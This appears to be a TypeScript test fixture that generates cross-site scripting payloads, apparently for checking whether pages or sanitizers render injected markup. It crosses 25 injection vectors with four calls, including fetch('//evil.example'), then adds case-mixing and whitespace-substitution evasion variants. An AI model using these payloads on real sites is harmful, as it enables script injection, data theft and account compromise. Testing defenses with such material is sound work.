/**
 * Texts that become markup or code wherever a text is taken for it.
 */
const vectors: ((call: string) => string)[] = [
  (call) => `<script>${call}</script>`,
  (call) => `</title><script>${call}</script>`,
  (call) => `</textarea></style><script>${call}</script>`,
  (call) => `--><script>${call}</script>`,
  (call) => `"><script>${call}</script>`,
  (call) => `'><script>${call}</script>`,
  (call) => `<img src=x onerror=${call}>`,
  (call) => `"><img src=x onerror=${call}>`,
  (call) => `'><svg/onload=${call}>`,
  (call) => `<svg><animate onbegin=${call} attributeName=x dur=1s>`,
  (call) => `<svg><script>${call}</script></svg>`,
  (call) => `<iframe srcdoc="<script>parent.${call}</script>">`,
  (call) => `<iframe src=javascript:${call}>`,
  (call) => `<details open ontoggle=${call}>x</details>`,
  (call) => `<input autofocus onfocus=${call}>`,
  (call) => `<video><source onerror=${call}>`,
  (call) => `<math><mtext></form><form><mglyph><style></math><img src onerror=${call}>`,
  (call) => `<a href="javascript:${call}">x</a>`,
  (call) => `javascript:${call}//`,
  (call) => `" onmouseover=${call} x="`,
  (call) => `' onpointerenter=${call} x='`,
  (call) => `<object data=javascript:${call}>`,
  (call) => `<embed src=javascript:${call}>`,
  (call) => `<form><button formaction=javascript:${call}>x</button></form>`,
  (call) => `<base href=//evil.example/><script>${call}</script>`,
]
const calls = ['window.__ran=1', 'top.__ran=1', 'alert(1)', "fetch('//evil.example')"]

const mixedCase = (text: string) =>
  text.replace(/<\/?[a-z]+|\bon[a-z]+(?==)|javascript(?=:)/g, (word) =>
    [...word].map((letter, index) => (index % 2 === 0 ? letter.toUpperCase() : letter)).join(''),
  )
/** What markup forgives: other case, and other signs where a space may stand. Code inside stays as it is, so that it would run. */
const manners = [
  (text: string) => text,
  mixedCase,
  (text: string) => text.replace(/(?<=<[a-z]+) /g, '\n/\t').replace(/ (?=on[a-z]+=)/g, '\f'),
]

export const scriptPayloads: readonly string[] = manners.flatMap((manner) =>
  calls.flatMap((call) => vectors.map((vector) => manner(vector(call)))),
)

/** Stands behind a payload, so that a page that shows it can be told from one that never got it. */
export const markOf = (kind: string): string => `¤${kind}¤`
export const marksIn = (text: string): string[] => [...text.matchAll(/¤([a-z]+)¤/g)].map(([, kind = '']) => kind)
